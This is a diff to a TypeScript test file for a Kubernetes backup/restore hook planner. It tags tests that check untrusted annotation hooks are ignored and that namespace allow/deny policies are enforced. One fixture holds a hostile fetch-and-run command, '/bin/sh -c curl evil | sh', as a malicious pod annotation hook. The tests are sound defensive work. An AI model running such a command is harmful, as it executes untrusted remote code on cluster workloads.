@@ -66,7 +66,7 @@ const summary = (hooks: readonly { pod: string; source: string; name: string; co
   hooks.map((h) => `${h.pod}:${h.source}:${h.name}:${h.command.join(' ')}`);
 
 void describe('--no-annotation-hooks', () => {
-  void it('backup: the annotated pod gets the spec hooks instead of its annotation hook; notes say so', () => {
+  void it('[S-12] backup: the annotated pod gets the spec hooks instead of its annotation hook; notes say so', () => {
     const pods = [pod('annotated', 'app', hostile), pod('plain', 'app')];
     const trusting = planBackupDetailed(pods, backup(), 'pre');
     assert.deepEqual(summary(trusting.plan.hooks), ['annotated:annotation:<from-annotation>:/bin/sh -c curl evil | sh', 'plain:spec:trusted:/bin/freeze']);
@@ -81,7 +81,7 @@ void describe('--no-annotation-hooks', () => {
     assert.match(strict.plan.skipped[0]?.reason ?? '', /pre hook annotations are ignored \(--no-annotation-hooks\)/);
   });
 
-  void it('restore: annotation init and exec hooks are both ignored; the spec init and exec hooks apply', () => {
+  void it('[S-12] restore: annotation init and exec hooks are both ignored; the spec init and exec hooks apply', () => {
     const strict = planRestoreDetailed([pod('annotated', 'app', hostile)], restore(), { ...gen, policy: { annotationHooks: false } });
     assert.deepEqual(summary(strict.plan.hooks), ['annotated:spec:trusted:/bin/prep', 'annotated:spec:trusted:/bin/warm']);
     assert.ok(strict.plan.hooks.every((h) => h.initContainer === undefined || h.initContainer.image === 'busybox'));
@@ -105,7 +105,7 @@ void describe('--allow-namespace / --deny-namespace', () => {
     return p.denied;
   };
 
-  void it('deny wins over allow; with allow patterns a namespace must match one; globs as Velero', () => {
+  void it('[S-13] deny wins over allow; with allow patterns a namespace must match one; globs as Velero', () => {
     const denied = policy(['app-*', 'db'], ['app-secret*']);
     assert.equal(denied('app-web'), undefined);
     assert.equal(denied('db'), undefined);
@@ -116,13 +116,13 @@ void describe('--allow-namespace / --deny-namespace', () => {
     assert.equal(policy(['{a,b}?'], [])('a1'), undefined);
   });
 
-  void it('an invalid glob is an error naming the flag', () => {
+  void it('[S-13] an invalid glob is an error naming the flag', () => {
     const p = namespacePolicy(['ok'], ['[']);
     if (p.ok) assert.fail('"[" must not compile');
     assert.match(p.error, /^--deny-namespace "\["/);
   });
 
-  void it('pods with hooks in a denied namespace are planned out with the reason, for backup and restore', () => {
+  void it('[S-14] pods with hooks in a denied namespace are planned out with the reason, for backup and restore', () => {
     const pods = [pod('a', 'app'), pod('k', 'kube-system'), pod('s', 'secrets')];
     const namespaceDenied = policy(['app', 'kube-*'], ['kube-*']);
     const b = planBackupDetailed(pods, backup(), 'pre', { namespaceDenied });
@@ -168,7 +168,7 @@ void describe('kubehooks plan with the trust flags', () => {
 });
 
 void describe('kubehooks run with a namespace policy', () => {
-  void it('the executor refuses a denied namespace even if a plan contained it (defence in depth); nothing reaches the cluster', async () => {
+  void it('[S-14] the executor refuses a denied namespace even if a plan contained it (defence in depth); nothing reaches the cluster', async () => {
     const execs: string[] = [];
     const hook = (namespace: string): PlannedHook => ({
       namespace, pod: 'p', container: 'app', type: 'exec', source: 'spec', name: 'h', phase: 'pre', index: 0,
